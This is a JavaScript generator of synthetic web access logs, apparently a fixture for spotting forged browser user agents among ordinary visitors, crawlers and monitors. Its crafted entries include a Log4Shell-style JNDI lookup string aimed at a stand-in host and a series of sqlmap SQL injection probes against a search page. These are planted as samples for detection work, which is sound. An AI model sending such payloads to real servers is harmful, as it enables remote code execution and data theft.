import { createRandom } from "./random.mjs";
import { atWork, HOUR, isoTime, on, SECOND, steadily } from "./time.mjs";

/** @typedef {{ at: number, client: string, method: string, path: string, status: number, bytes: number, referer: string, agent: string }} Request */

const WINDOWS = "Windows NT 10.0; Win64; x64";
const MAC = "Macintosh; Intel Mac OS X 10_15_7";
const KHTML = "(KHTML, like Gecko)";

/** Browsers as they are: each visitor has one. */
const BROWSERS = [
  ...["121.0.0.0", "122.0.0.0"].flatMap((version) => [
    `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 ${KHTML} Chrome/${version} Safari/537.36`,
    `Mozilla/5.0 (${MAC}) AppleWebKit/537.36 ${KHTML} Chrome/${version} Safari/537.36`,
    `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 ${KHTML} Chrome/${version} Safari/537.36`,
    `Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 ${KHTML} Chrome/${version} Mobile Safari/537.36`,
    `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 ${KHTML} Chrome/${version} Safari/537.36 Edg/${version}`,
  ]),
  `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 ${KHTML} Chrome/121.0.0.0 Safari/537.36 OPR/107.0.0.0`,
  ...["115.0", "122.0", "123.0"].flatMap((version) => {
    const rv = version === "115.0" ? "109.0" : version;
    return [
      `Mozilla/5.0 (${WINDOWS}; rv:${rv}) Gecko/20100101 Firefox/${version}`,
      `Mozilla/5.0 (X11; Linux x86_64; rv:${rv}) Gecko/20100101 Firefox/${version}`,
      `Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:${rv}) Gecko/20100101 Firefox/${version}`,
    ];
  }),
  ...["17.2", "17.3"].flatMap((version) => [
    `Mozilla/5.0 (${MAC}) AppleWebKit/605.1.15 ${KHTML} Version/${version} Safari/605.1.15`,
    `Mozilla/5.0 (iPhone; CPU iPhone OS ${version.replace(".", "_")} like Mac OS X) AppleWebKit/605.1.15 ${KHTML} Version/${version} Mobile/15E148 Safari/604.1`,
  ]),
];

const PAGES = [
  "/",
  "/products",
  "/products/12",
  "/products/31",
  "/about",
  "/contact",
  "/news/2026/03",
  "/search?q=lamp",
];
const PARTS = ["/static/site.css", "/static/site.js", "/static/logo.svg", "/favicon.ico"];

/** Who only says to be a browser: from where, when, how often, and what is asked for. */
const CRAFTED = [
  {
    client: "203.0.113.17",
    agent: `Mozilla/5.0 (${WINDOWS}) Chrome/122.0.0.0 Safari/537.36 AppleWebKit/537.36 ${KHTML}`,
    at: on(0, 9, 12),
    paths: ["/login", "/login"],
  },
  // Every hour, so that nobody finds it by being rare: two blanks before the last part.
  {
    client: "198.51.100.44",
    agent: `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 ${KHTML} Chrome/122.0.0.0  Safari/537.36`,
    at: on(0, 0, 7),
    every: HOUR,
    paths: Array.from({ length: 48 }, () => "/static/t.gif"),
  },
  {
    client: "203.0.113.90",
    agent: `Mozilla/5.0 (${WINDOWS}; rv:115.0) Gecko/20100101 Firefox/123.0`,
    at: on(1, 3, 40),
    paths: ["/admin", "/admin/login", "/admin/export"],
  },
  {
    client: "203.0.113.91",
    agent: `User-Agent: Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 ${KHTML} Chrome/122.0.0.0 Safari/537.36`,
    at: on(0, 14, 2),
    paths: ["/search?q=1"],
  },
  {
    client: "203.0.113.92",
    agent: `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 ${KHTML} \u0421hrome/122.0.0.0 Safari/537.36`,
    at: on(1, 11, 20),
    paths: ["/contact"],
  },
  {
    client: "203.0.113.93",
    agent: `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 ${KHTML} Safari/537.36 Edg/122.0.0.0`,
    at: on(1, 10, 5),
    paths: ["/products", "/products/12"],
  },
  {
    client: "203.0.113.94",
    agent: `Mozilla/5.0 (Windows NT 11.0; Win64; x64) AppleWebKit/537.36 ${KHTML} Chrome/122.0.0.0 Safari/537.36`,
    at: on(0, 16, 30),
    paths: ["/", "/login"],
  },
  {
    client: "203.0.113.95",
    agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/6.0)",
    at: on(1, 2, 2),
    paths: ["/"],
  },
  {
    client: "203.0.113.96",
    agent: `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 ${KHTML} Chrome/122.0.0.0 Safari/537.36 curl/8.5.0`,
    at: on(1, 13, 45),
    paths: ["/products.json"],
  },
  {
    client: "203.0.113.97",
    agent: "${jndi:ldap://203.0.113.97/a}",
    at: on(0, 22, 11),
    paths: ["/"],
  },
  {
    client: "203.0.113.98",
    agent: "sqlmap/1.8#stable (https://sqlmap.org)",
    at: on(1, 4, 0),
    every: SECOND,
    paths: Array.from({ length: 300 }, (_, i) => `/search?q=1%27%20AND%20${i}=${i}`),
  },
];

/**
 * Two days of a web site: visitors, a crawler, a watcher and scripts of its own, and agents that were made by hand. The first
 * day is logged in the combined format, the second in JSON lines, each with a line that broke off.
 * @param {number} seed
 */
export function webRequests(seed) {
  const random = createRandom(seed);
  const requests = [...visits(random), ...helpers(random), ...crafted()].sort(
    (a, b) => a.at - b.at || (a.path < b.path ? -1 : 1),
  );
  const [first, second] = [0, 1].map((day) =>
    requests.filter(({ at }) => at >= on(day, 0, 0) && at < on(day + 1, 0, 0)),
  );
  return {
    combined: `${first?.map(combinedLine).join("")}192.0.2.31 - - [02/Mar/2026:23:59`,
    json: `${second?.map(jsonLine).join("")}{"time_iso8601":"2026-03-03T23:59`,
  };
}

/** @param {import("./random.mjs").Random} random @returns {Request[]} */
function visits(random) {
  const visitors = BROWSERS.flatMap((agent, i) =>
    Array.from({ length: 3 }, (_, j) => ({ agent, client: `192.0.2.${20 + i * 3 + j}` })),
  );
  return atWork(random, 420).flatMap((at) => {
    const { agent, client } = random.pick(visitors);
    const page = random.pick(PAGES);
    const own = {
      at,
      client,
      method: "GET",
      path: page,
      status: 200,
      bytes: random.integer(2000, 30000),
      referer: "",
      agent,
    };
    const parts = PARTS.filter(() => random.chance(0.3)).map((path) => ({
      ...own,
      at: at + random.integer(0, SECOND),
      path,
      status: random.chance(0.5) ? 304 : 200,
      bytes: random.integer(200, 9000),
      referer: `https://www.example.com${page}`,
    }));
    return [own, ...parts];
  });
}

/** Programs that say what they are. @param {import("./random.mjs").Random} random @returns {Request[]} */
function helpers(random) {
  const get = { method: "GET", status: 200, referer: "" };
  const crawler = steadily(random, { every: HOUR / 2, jitter: 60 * SECOND }).map((at) => ({
    ...get,
    at,
    client: "198.51.100.7",
    path: random.pick(PAGES),
    bytes: random.integer(2000, 30000),
    agent: "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/about)",
  }));
  const watcher = steadily(random, { every: HOUR / 6, offset: 3000 }).map((at) => ({
    ...get,
    at,
    client: "198.51.100.8",
    path: "/health",
    bytes: 2,
    agent: "site-monitor/1.4",
  }));
  const script = steadily(random, { every: 6 * HOUR, offset: 2 * HOUR }).map((at) => ({
    ...get,
    at,
    client: "198.51.100.9",
    path: "/feed.xml",
    bytes: 18211,
    agent: "curl/8.5.0",
  }));
  return [...crawler, ...watcher, ...script];
}

/** @returns {Request[]} */
function crafted() {
  return CRAFTED.flatMap(({ client, agent, at, every = 2 * SECOND, paths }) =>
    paths.map((path, i) => ({
      at: at + i * every,
      client,
      method: "GET",
      path,
      status: 200,
      bytes: 4096,
      referer: "",
      agent,
    })),
  );
}

const MONTHS = ["Jan", "Feb", "Mar"];

/** As Apache httpd writes it: bytes that are not printable ASCII as \xhh. @param {Request} request */
function combinedLine({ at, client, method, path, status, bytes, referer, agent }) {
  const [date = "", time = ""] = isoTime(at).slice(0, 19).split("T");
  const [year, month, day] = date.split("-");
  const clock = `${day}/${MONTHS[Number(month) - 1]}/${year}:${time} +0000`;
  return `${client} - - [${clock}] "${method} ${path} HTTP/1.1" ${status} ${bytes} "${escaped(referer)}" "${escaped(agent)}"\n`;
}

/** @param {string} text */
function escaped(text) {
  if (text === "") return "-";
  return [...Buffer.from(text, "utf8")]
    .map((byte) =>
      byte === 0x22 || byte === 0x5c
        ? `\\${String.fromCharCode(byte)}`
        : byte < 0x20 || byte > 0x7e
          ? `\\x${byte.toString(16).padStart(2, "0")}`
          : String.fromCharCode(byte),
    )
    .join("");
}

/** As nginx is often told to write it. @param {Request} request */
function jsonLine({ at, client, method, path, status, bytes, referer, agent }) {
  const event = {
    time_iso8601: `${isoTime(at).slice(0, 19)}+00:00`,
    remote_addr: client,
    request: `${method} ${path} HTTP/2.0`,
    status,
    body_bytes_sent: bytes,
    http_referer: referer,
    http_user_agent: agent,
  };
  return `${JSON.stringify(event)}\n`;
}
